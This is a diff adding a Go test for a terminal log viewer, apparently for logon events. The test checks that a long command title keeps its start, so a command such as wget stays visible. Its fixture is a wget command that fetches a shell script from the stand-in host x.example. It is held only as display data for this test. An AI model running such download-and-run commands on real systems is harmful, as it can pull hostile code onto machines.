@@ -190,3 +190,18 @@ func TestExportLeavesAnAbsentEventIDEmpty(t *testing.T) {
 		}
 	}
 }
+
+// A command's title that does not fit is cut at its end, as the list cuts
+// a command, and so are its clients': its start says what it is. It was
+// cut at its start as a host name is, and "…/x.example/a.sh" hid the wget.
+func TestLongCommandTitleKeepsItsStart(t *testing.T) {
+	c := logons(t)
+	cmd := valueTarget(t, c, engsubject.LogonCommand, "wget http://x.example/a.sh")
+	for _, open := range []common.Opener{NewEvents, NewClients} {
+		v := tuitest.Open(open, c, cmd, 50, 14)
+		top, _, _ := strings.Cut(ansi.Strip(v.View()), "\n")
+		if !strings.Contains(top, " of wget http:") || !strings.Contains(top, "…") {
+			t.Errorf("the title does not keep the command's start, its cut marked:\n%s", top)
+		}
+	}
+}
